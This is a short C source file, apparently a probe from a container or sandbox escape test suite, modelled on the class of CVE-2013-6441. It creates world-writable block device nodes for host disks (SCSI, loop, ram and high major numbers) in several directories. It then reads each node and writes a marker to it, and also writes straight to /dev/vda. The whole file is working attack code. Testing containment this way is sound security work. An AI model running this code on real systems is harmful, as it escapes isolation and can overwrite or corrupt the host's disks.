/* Makes nodes for the host's disks, reads them and writes to them (CVE-2013-6441's class; devices.txt). */
#include "common/attack.h"

static void disk(const char *place, int major_number, int minor_number) {
    char path[128];
    snprintf(path, sizeof path, "%s/disk-%d-%d", place, major_number, minor_number);
    if (mknod(path, S_IFBLK | 0666, makedev(major_number, minor_number)) < 0) {
        printf("mknod %s: %s\n", path, strerror(errno));
        return;
    }
    show(path);
    put(path, MARK);
}

static void attempt(void) {
    static const char *places[] = {"/tmp", "/dev", "/dev/shm", "/run", "/root", "/"};
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
        for (int major_number = 240; major_number < 260; major_number++) {
            disk(places[i], major_number, 0);
        }
        disk(places[i], 8, 0);
        disk(places[i], 7, 0);
        disk(places[i], 1, 0);
    }
    show("/dev/vda");
    put("/dev/vda", MARK);
}
